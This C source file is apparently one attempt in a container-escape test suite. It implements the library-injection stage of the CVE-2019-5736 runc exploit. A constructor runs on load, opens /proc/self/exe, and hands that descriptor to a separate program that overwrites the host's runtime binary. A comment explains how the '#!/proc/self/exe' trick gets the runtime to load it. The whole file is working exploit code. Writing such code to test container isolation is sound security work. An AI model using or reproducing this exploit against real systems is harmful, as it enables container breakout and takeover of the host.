/*
 * Idea: the second half of CVE-2019-5736. The command that the runtime is asked to start is a script whose first
 * line is "#!/proc/self/exe": so the runtime executes itself, inside, and the image chooses its libraries. This
 * library is loaded into it, keeps /proc/self/exe open across an exec, and hands it to `runtime-overwrite`.
 * Incident: CVE-2019-5736 (runc).
 * Success: runtime-overwrite says so.
 * Built as a shared library; RUNTIME_OVERWRITE names the program that takes over.
 */
#include "../attempts/attempt.h"

__attribute__((constructor)) static void take_over(void) {
  const char *program = getenv("RUNTIME_OVERWRITE");
  if (!program) return;
  char descriptor[16];
  unsetenv("LD_PRELOAD");
  snprintf(descriptor, sizeof descriptor, "%d", open("/proc/self/exe", O_RDONLY));
  execl(program, program, "--descriptor", descriptor, NULL);
}
